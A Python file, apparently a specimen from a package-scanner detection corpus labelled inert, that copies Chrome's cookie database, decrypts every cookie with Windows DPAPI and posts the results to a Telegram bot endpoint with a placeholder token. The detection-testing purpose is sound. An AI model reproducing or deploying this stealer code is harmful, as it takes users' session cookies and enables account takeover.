# pkgguard corpus 161 (browser-data), modelled on [empirical]; inert, never run.
import os
import shutil
import sqlite3
import tempfile
import requests
import win32crypt

base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Network")
copy = os.path.join(tempfile.gettempdir(), "c.db")
shutil.copy(os.path.join(base, "Cookies"), copy)
rows = sqlite3.connect(copy).execute("SELECT host_key, name, encrypted_value FROM cookies").fetchall()
out = [(h, n, win32crypt.CryptUnprotectData(v, None, None, None, 0)[1]) for h, n, v in rows]
requests.post("https://api.telegram.org/bot000000000:placeholder-placeholder-placeholder/sendMessage",
              data={"chat_id": "0", "text": repr(out)[:4000]})
